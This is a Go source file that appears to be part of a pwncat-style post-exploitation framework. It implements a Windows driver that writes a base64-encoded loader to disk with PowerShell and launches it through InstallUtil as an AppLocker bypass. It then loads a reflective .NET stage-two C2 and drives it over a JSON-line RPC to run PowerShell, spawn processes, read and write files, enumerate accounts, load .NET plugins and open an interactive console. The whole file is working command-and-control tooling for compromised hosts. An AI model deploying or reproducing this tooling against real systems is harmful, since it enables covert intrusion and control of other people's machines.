// Package windows implements the Windows Platform driver of spec.md
// §4.4: a stage-one bootstrap that delivers and launches a reflective
// .NET stage-two C2, then a JSON-line RPC client talking to it.
//
// The line-delimited JSON request/response protocol and the
// not-actually-generating-the-payload boundary mirror
// mattn-go-sshd/server.go's accept-a-stream-then-speak-a-framed-protocol
// shape; the deliver-a-loader-then-switch-protocols sequence is grounded
// on the teacher's (greenlight-cli) relay.go Run(): open a channel to a
// not-yet-running peer, start it, then enter a steady-state read/write
// loop. Per spec.md §1 Non-goals, stage one/stage two's own bytes are
// out of scope — this package only specifies how the driver *uses* them,
// taking their payload bytes as a caller-supplied io.Reader.
package windows

import (
	"bufio"
	"crypto/sha256"
	"encoding/base64"
	"encoding/json"
	"fmt"
	"io"
	"strings"
	"sync"
	"time"

	"github.com/sirupsen/logrus"

	"pwncat/internal/channel"
	"pwncat/internal/errs"
	"pwncat/internal/platform"
)

// request is one JSON-array-encoded stage-two call: ["ClassName",
// "method", arg1, arg2, ...] (spec.md §6 "On-wire framing for Windows C2").
type request []any

// response is stage-two's reply envelope.
type response struct {
	Error   int             `json:"error"`
	Result  json.RawMessage `json:"result"`
	Message string          `json:"message,omitempty"`
}

// Driver implements platform.Platform by speaking the stage-two JSON
// line protocol over ch.
type Driver struct {
	ch  channel.Channel
	log *logrus.Entry

	mu            sync.Mutex
	rw            *bufio.ReadWriter
	loadedPlugins map[string]string // content-hash or name -> plugin_id
	interactive   bool

	ShellPath       string
	HasPTYFlag      bool
	PromptMarker    []byte
	CWDPath         string
	CurrentUserID   string
	CurrentUserName string
	StageTwoLoaded  bool
}

// Bootstrap delivers stageOne (an AppLocker-bypassing reflective loader,
// caller-supplied per spec.md Non-goals) followed by stageTwo (the
// base64-gzipped .NET assembly), invokes stage one via InstallUtil, and
// waits for stage two's literal "READY" line (spec.md §4.4 "Stage one"/
// "Stage two").
func Bootstrap(ch channel.Channel, log *logrus.Entry, stageOnePath string, stageOne, stageTwo io.Reader) (*Driver, error) {
	d := &Driver{
		ch:            ch,
		log:           log,
		loadedPlugins: make(map[string]string),
	}

	if err := d.deliverStageOne(stageOnePath, stageOne); err != nil {
		return nil, err
	}
	if err := d.launchStageOne(stageOnePath); err != nil {
		return nil, err
	}
	if err := d.deliverStageTwo(stageTwo); err != nil {
		return nil, err
	}

	d.rw = bufio.NewReadWriter(bufio.NewReader(channelReader{ch}), bufio.NewWriter(channelWriter{ch}))

	line, err := d.rw.ReadString('\n')
	if err != nil {
		return nil, &errs.ProtocolError{Op: "bootstrap", Err: err}
	}
	if strings.TrimSpace(line) != "READY" {
		return nil, &errs.ProtocolError{Op: "bootstrap", Err: fmt.Errorf("expected READY, got %q", line)}
	}
	d.StageTwoLoaded = true
	d.HasPTYFlag = true // ConPTY is always available once stage two is up

	return d, nil
}

// deliverStageOne writes the loader to the AppLocker-bypass directory
// using base64 transport framed the same way the Linux driver's
// openBase64 fallback works, since no interactive shell exists yet to
// offer sftp.
func (d *Driver) deliverStageOne(path string, r io.Reader) error {
	payload, err := io.ReadAll(r)
	if err != nil {
		return fmt.Errorf("windows: read stage one payload: %w", err)
	}
	encoded := base64.StdEncoding.EncodeToString(payload)
	cmd := fmt.Sprintf(
		"powershell -NoProfile -Command \"[IO.File]::WriteAllBytes('%s',[Convert]::FromBase64String('%s'))\"\r\n",
		path, encoded,
	)
	if _, err := d.ch.Send([]byte(cmd)); err != nil {
		return &errs.TransportError{Op: "deliver-stage-one", Err: err}
	}
	d.ch.Drain()
	return nil
}

// launchStageOne invokes the loader via InstallUtil, the AppLocker
// bypass technique spec.md §4.4 names explicitly.
func (d *Driver) launchStageOne(path string) error {
	cmd := fmt.Sprintf(
		"C:\\Windows\\Microsoft.NET\\Framework64\\v4.0.30319\\InstallUtil.exe /LogToConsole=false /LogFile= \"%s\"\r\n",
		path,
	)
	if _, err := d.ch.Send([]byte(cmd)); err != nil {
		return &errs.TransportError{Op: "launch-stage-one", Err: err}
	}
	return nil
}

func (d *Driver) deliverStageTwo(r io.Reader) error {
	payload, err := io.ReadAll(r)
	if err != nil {
		return fmt.Errorf("windows: read stage two payload: %w", err)
	}
	encoded := base64.StdEncoding.EncodeToString(payload)
	if _, err := d.ch.Send([]byte(encoded + "\n")); err != nil {
		return &errs.TransportError{Op: "deliver-stage-two", Err: err}
	}
	return nil
}

// call performs one request/response round trip against stage two,
// serialized by mu since the underlying Channel is a single shared
// byte stream (the Windows analog of the Linux driver's framed-command
// mutex).
func (d *Driver) call(class, method string, args ...any) (json.RawMessage, error) {
	d.mu.Lock()
	defer d.mu.Unlock()

	req := append(request{class, method}, args...)
	line, err := json.Marshal(req)
	if err != nil {
		return nil, fmt.Errorf("windows: marshal request: %w", err)
	}
	if _, err := d.rw.Write(append(line, '\n')); err != nil {
		return nil, &errs.TransportError{Op: "call", Err: err}
	}
	if err := d.rw.Flush(); err != nil {
		return nil, &errs.TransportError{Op: "call", Err: err}
	}

	respLine, err := d.rw.ReadString('\n')
	if err != nil {
		return nil, &errs.ProtocolError{Op: "call", Err: err}
	}
	var resp response
	if err := json.Unmarshal([]byte(respLine), &resp); err != nil {
		return nil, &errs.ProtocolError{Op: "call", Err: fmt.Errorf("parse response: %w", err)}
	}
	if resp.Error != 0 {
		return nil, &errs.PlatformError{Op: fmt.Sprintf("%s.%s", class, method), Err: fmt.Errorf("stage-two error %d: %s", resp.Error, resp.Message)}
	}
	return resp.Result, nil
}

func (d *Driver) Kind() platform.Kind { return platform.Windows }
func (d *Driver) HasPTY() bool        { return d.HasPTYFlag }

func (d *Driver) Close() error {
	return nil
}

// channelReader/channelWriter adapt channel.Channel to io.Reader/Writer
// for bufio, letting the stage-two line protocol be parsed with
// ReadString('\n') instead of hand-rolled delimiter scanning.
type channelReader struct{ ch channel.Channel }

func (r channelReader) Read(p []byte) (int, error) {
	b, err := r.ch.Recv(len(p))
	if err != nil {
		return 0, err
	}
	return copy(p, b), nil
}

type channelWriter struct{ ch channel.Channel }

func (w channelWriter) Write(p []byte) (int, error) { return w.ch.Send(p) }

// --- Platform primitives (spec.md §4.4 "Primitives") ---
//
// Method/class naming convention this driver imposes on stage two
// (the binary itself is out of scope per spec.md §1, so this package is
// free to define the exact ABI as long as it exposes the core methods
// called here): Shell.powershell for one-shot captured execution,
// Process.{process,ppoll,write,kill} for the long-running Popen path,
// File.{open,read,write,close} for RemoteFile, Console.interactive for
// the ConPTY pass-through of spec.md §4.4 "Interactive".

// psResult is what every Shell.powershell call returns: the target
// script's own stdout (already captured and `Out-String`-flattened by
// the wrapper script below) plus $LASTEXITCODE.
type psResult struct {
	Stdout   string `json:"stdout"`
	ExitCode int    `json:"exit_code"`
}

// runPowershell wraps script so its stdout/stderr are captured and its
// exit code surfaced, the same "echo <S>; cmd; echo <E> $?" shape as the
// Linux driver's framed execution (spec.md §4.3), translated into
// PowerShell idiom since there is no shared prompt stream here — the
// JSON envelope itself is the delimiter.
func (d *Driver) runPowershell(script string, timeout time.Duration) (psResult, error) {
	wrapped := fmt.Sprintf(
		`$__out = (%s) 2>&1 | Out-String; @{stdout=$__out; exit_code=$LASTEXITCODE} | ConvertTo-Json -Compress`,
		script,
	)
	raw, err := d.call("Shell", "powershell", wrapped)
	if err != nil {
		return psResult{}, err
	}
	var pr psResult
	if err := json.Unmarshal(raw, &pr); err != nil {
		return psResult{}, &errs.ProtocolError{Op: "powershell", Err: fmt.Errorf("parse result: %w", err)}
	}
	return pr, nil
}

// buildCommandLine renders argv/env into the single PowerShell
// expression runPowershell wraps: `$env:K='V'; & 'argv0' 'argv1' ...`.
func buildCommandLine(argv []string, env map[string]string) string {
	var b strings.Builder
	for k, v := range env {
		fmt.Fprintf(&b, "$env:%s=%s; ", k, psQuote(v))
	}
	b.WriteString("& ")
	for i, a := range argv {
		if i > 0 {
			b.WriteByte(' ')
		}
		b.WriteString(psQuote(a))
	}
	return b.String()
}

func psQuote(s string) string {
	return "'" + strings.ReplaceAll(s, "'", "''") + "'"
}

// Run implements platform.Platform.Run over Shell.powershell (spec.md
// §4.4 "Primitives"). timeout is not enforced: the call blocks until
// stage two replies.
func (d *Driver) Run(argv []string, env map[string]string, timeout time.Duration) ([]byte, int, error) {
	pr, err := d.runPowershell(buildCommandLine(argv, env), timeout)
	if err != nil {
		return nil, 0, err
	}
	return []byte(pr.Stdout), pr.ExitCode, nil
}

// winProcess is the stage-two-assigned process identity backing a
// ProcessHandle (spec.md §3 "Process handle": "opaque id" on Windows).
type winProcess struct {
	d   *Driver
	pid int
}

func (p *winProcess) Read(buf []byte) (int, error) {
	raw, err := p.d.call("Process", "ppoll", p.pid)
	if err != nil {
		return 0, err
	}
	var chunk struct {
		Data string `json:"data"`
		EOF  bool   `json:"eof"`
	}
	if err := json.Unmarshal(raw, &chunk); err != nil {
		return 0, &errs.ProtocolError{Op: "ppoll", Err: err}
	}
	decoded, err := base64.StdEncoding.DecodeString(chunk.Data)
	if err != nil {
		return 0, &errs.ProtocolError{Op: "ppoll", Err: err}
	}
	if len(decoded) == 0 && chunk.EOF {
		return 0, io.EOF
	}
	return copy(buf, decoded), nil
}

func (p *winProcess) Write(data []byte) (int, error) {
	encoded := base64.StdEncoding.EncodeToString(data)
	if _, err := p.d.call("Process", "write", p.pid, encoded); err != nil {
		return 0, err
	}
	return len(data), nil
}

// Popen implements platform.Platform.Popen: starts argv asynchronously
// via Process.process and returns a handle that pulls output through
// Process.ppoll (analogous to the Linux driver's framedReader pulling
// through Channel.Recv) until stage two reports EOF, closed by
// Process.kill (spec.md §4.4 core method "kill").
func (d *Driver) Popen(argv []string, env map[string]string) (*platform.ProcessHandle, error) {
	raw, err := d.call("Process", "process", argv, env, false)
	if err != nil {
		return nil, err
	}
	var started struct {
		PID int `json:"pid"`
	}
	if err := json.Unmarshal(raw, &started); err != nil {
		return nil, &errs.ProtocolError{Op: "popen", Err: err}
	}
	proc := &winProcess{d: d, pid: started.PID}
	closer := func() error {
		_, err := d.call("Process", "kill", started.PID)
		return err
	}
	return platform.NewProcessHandle(started.PID, proc, proc, nil, nil, nil, closer), nil
}

// winFileHandle is the File.open-assigned opaque handle backing a
// RemoteFile.
type winFileHandle struct {
	d      *Driver
	handle string
}

func (f *winFileHandle) Read(buf []byte) (int, error) {
	raw, err := f.d.call("File", "read", f.handle, len(buf))
	if err != nil {
		return 0, err
	}
	var chunk struct {
		Data string `json:"data"`
		EOF  bool   `json:"eof"`
	}
	if err := json.Unmarshal(raw, &chunk); err != nil {
		return 0, &errs.ProtocolError{Op: "file-read", Err: err}
	}
	decoded, err := base64.StdEncoding.DecodeString(chunk.Data)
	if err != nil {
		return 0, &errs.ProtocolError{Op: "file-read", Err: err}
	}
	if len(decoded) == 0 && chunk.EOF {
		return 0, io.EOF
	}
	return copy(buf, decoded), nil
}

func (f *winFileHandle) Write(p []byte) (int, error) {
	encoded := base64.StdEncoding.EncodeToString(p)
	if _, err := f.d.call("File", "write", f.handle, encoded); err != nil {
		return 0, err
	}
	return len(p), nil
}

func (f *winFileHandle) Close() error {
	_, err := f.d.call("File", "close", f.handle)
	return err
}

// Open implements platform.Platform.Open: CreateFile with a
// mode-derived GENERIC_READ/WRITE and OPEN_EXISTING/TRUNCATE_EXISTING
// (spec.md §4.4 "Primitives"), performed inside stage two and addressed
// here by the handle it returns.
func (d *Driver) Open(path string, mode platform.FileMode, length int64) (*platform.RemoteFile, error) {
	modeStr := map[platform.FileMode]string{
		platform.ModeRead:      "r",
		platform.ModeWrite:     "w",
		platform.ModeReadWrite: "rw",
	}[mode]

	raw, err := d.call("File", "open", path, modeStr)
	if err != nil {
		return nil, &errs.NotFoundError{Kind: "file", Name: path}
	}
	var opened struct {
		Handle string `json:"handle"`
		Size   int64  `json:"size"`
	}
	if err := json.Unmarshal(raw, &opened); err != nil {
		return nil, &errs.ProtocolError{Op: "open", Err: err}
	}
	fh := &winFileHandle{d: d, handle: opened.Handle}

	fileLength := length
	if fileLength < 0 {
		fileLength = opened.Size
	}

	switch mode {
	case platform.ModeRead:
		return platform.NewRemoteFile(path, mode, true, fileLength, fh, nil, fh.Close), nil
	case platform.ModeWrite:
		return platform.NewRemoteFile(path, mode, true, fileLength, nil, fh, fh.Close), nil
	default:
		return platform.NewRemoteFile(path, mode, true, fileLength, fh, fh, fh.Close), nil
	}
}

// Which resolves name via PowerShell's Get-Command, the Windows analog
// of the Linux driver's `command -v` (spec.md §4.3 "which", applied
// here since spec.md §4.4 doesn't name a dedicated resolution primitive
// but the Platform interface requires one uniformly).
func (d *Driver) Which(name string) (string, error) {
	pr, err := d.runPowershell(fmt.Sprintf(
		"(Get-Command %s -ErrorAction SilentlyContinue).Source", psQuote(name),
	), 5*time.Second)
	if err != nil {
		return "", err
	}
	path := strings.TrimSpace(pr.Stdout)
	if path == "" {
		return "", &errs.NotFoundError{Kind: "binary", Name: name}
	}
	return path, nil
}

// Users enumerates local accounts via Get-LocalUser, parsed from a
// ConvertTo-Json array.
func (d *Driver) Users() ([]platform.User, error) {
	pr, err := d.runPowershell(
		`Get-LocalUser | Select-Object Name,SID,Enabled | ConvertTo-Json -Compress`, 10*time.Second,
	)
	if err != nil {
		return nil, err
	}
	var raw []struct {
		Name string `json:"Name"`
		SID  string `json:"SID"`
	}
	if err := unmarshalOneOrMany(pr.Stdout, &raw); err != nil {
		return nil, &errs.ProtocolError{Op: "users", Err: err}
	}
	out := make([]platform.User, 0, len(raw))
	for _, u := range raw {
		out = append(out, platform.User{Name: u.Name, UID: u.SID})
	}
	return out, nil
}

// Groups enumerates local groups via Get-LocalGroup.
func (d *Driver) Groups() ([]platform.Group, error) {
	pr, err := d.runPowershell(
		`Get-LocalGroup | Select-Object Name,SID | ConvertTo-Json -Compress`, 10*time.Second,
	)
	if err != nil {
		return nil, err
	}
	var raw []struct {
		Name string `json:"Name"`
		SID  string `json:"SID"`
	}
	if err := unmarshalOneOrMany(pr.Stdout, &raw); err != nil {
		return nil, &errs.ProtocolError{Op: "groups", Err: err}
	}
	out := make([]platform.Group, 0, len(raw))
	for _, g := range raw {
		out = append(out, platform.Group{Name: g.Name, GID: g.SID})
	}
	return out, nil
}

// CurrentUser returns the identity stage two is running as.
func (d *Driver) CurrentUser() (platform.User, error) {
	if d.CurrentUserName != "" {
		return platform.User{Name: d.CurrentUserName, UID: d.CurrentUserID}, nil
	}
	pr, err := d.runPowershell(`[Security.Principal.WindowsIdentity]::GetCurrent().Name`, 5*time.Second)
	if err != nil {
		return platform.User{}, err
	}
	d.CurrentUserName = strings.TrimSpace(pr.Stdout)
	return platform.User{Name: d.CurrentUserName}, nil
}

// CWD returns stage two's current directory.
func (d *Driver) CWD() (string, error) {
	if d.CWDPath != "" {
		return d.CWDPath, nil
	}
	pr, err := d.runPowershell(`(Get-Location).Path`, 5*time.Second)
	if err != nil {
		return "", err
	}
	d.CWDPath = strings.TrimSpace(pr.Stdout)
	return d.CWDPath, nil
}

// HostID computes the stable reconnect-routing hash of spec.md §3 for
// Windows: the machine GUID.
func (d *Driver) HostID() (string, error) {
	pr, err := d.runPowershell(
		`(Get-ItemProperty 'HKLM:\SOFTWARE\Microsoft\Cryptography').MachineGuid`, 5*time.Second,
	)
	if err != nil {
		return "", err
	}
	guid := strings.TrimSpace(pr.Stdout)
	if guid == "" {
		return "", &errs.PlatformError{Op: "host-id", Err: fmt.Errorf("MachineGuid not found")}
	}
	return guid, nil
}

// DotnetLoad implements spec.md §4.4 "Plugins": content-hash and
// logical-name deduplication so repeated loads of the same assembly
// return the same plugin id without re-invoking stage two's loader.
func (d *Driver) DotnetLoad(name string, assembly []byte) (string, error) {
	sum := sha256Hex(assembly)
	d.mu.Lock()
	if id, ok := d.loadedPlugins[sum]; ok {
		d.mu.Unlock()
		return id, nil
	}
	if id, ok := d.loadedPlugins[name]; ok {
		d.mu.Unlock()
		return id, nil
	}
	d.mu.Unlock()

	encoded := base64.StdEncoding.EncodeToString(assembly)
	raw, err := d.call("Plugin", "load", name, encoded)
	if err != nil {
		return "", err
	}
	var loaded struct {
		PluginID string `json:"plugin_id"`
	}
	if err := json.Unmarshal(raw, &loaded); err != nil {
		return "", &errs.ProtocolError{Op: "dotnet_load", Err: err}
	}

	d.mu.Lock()
	d.loadedPlugins[sum] = loaded.PluginID
	d.loadedPlugins[name] = loaded.PluginID
	d.mu.Unlock()
	return loaded.PluginID, nil
}

// InvokePlugin routes a method call to Plugin.<name> static methods,
// the same JSON ABI as the core classes (spec.md §4.4 "Plugins").
func (d *Driver) InvokePlugin(pluginID, method string, args ...any) (json.RawMessage, error) {
	fullArgs := append([]any{pluginID}, args...)
	return d.call("Plugin", method, fullArgs...)
}

// Interactive switches the Channel into a raw pass-through bound to a
// ConPTY session inside stage two, returning once the marker line
// INTERACTIVE_COMPLETE is seen (spec.md §4.4 "Interactive"). Callers
// typically wire dst/src to the Manager's local terminal controller the
// same way Manager.InteractiveLoop does for Linux's raw-PTY pass-through.
func (d *Driver) Interactive(dst io.Writer, src io.Reader) error {
	d.mu.Lock()
	d.interactive = true
	d.mu.Unlock()
	defer func() {
		d.mu.Lock()
		d.interactive = false
		d.mu.Unlock()
	}()

	if _, err := d.call("Console", "interactive"); err != nil {
		return err
	}

	done := make(chan error, 1)
	go func() {
		buf := make([]byte, 4096)
		for {
			n, err := src.Read(buf)
			if n > 0 {
				if _, werr := d.ch.Send(buf[:n]); werr != nil {
					done <- werr
					return
				}
			}
			if err != nil {
				done <- err
				return
			}
		}
	}()

	go func() {
		const marker = "INTERACTIVE_COMPLETE"
		raw, err := d.ch.RecvUntil([]byte(marker), 0)
		if err != nil {
			done <- err
			return
		}
		body := raw[:len(raw)-len(marker)]
		if len(body) > 0 {
			dst.Write(body)
		}
		done <- nil
	}()

	return <-done
}

// unmarshalOneOrMany handles PowerShell's ConvertTo-Json quirk of
// emitting a bare object (not a one-element array) when exactly one
// result is selected.
func unmarshalOneOrMany(s string, out any) error {
	s = strings.TrimSpace(s)
	if s == "" {
		return nil
	}
	if s[0] == '[' {
		return json.Unmarshal([]byte(s), out)
	}
	wrapped := "[" + s + "]"
	return json.Unmarshal([]byte(wrapped), out)
}

func sha256Hex(b []byte) string {
	return fmt.Sprintf("%x", sha256.Sum256(b))
}
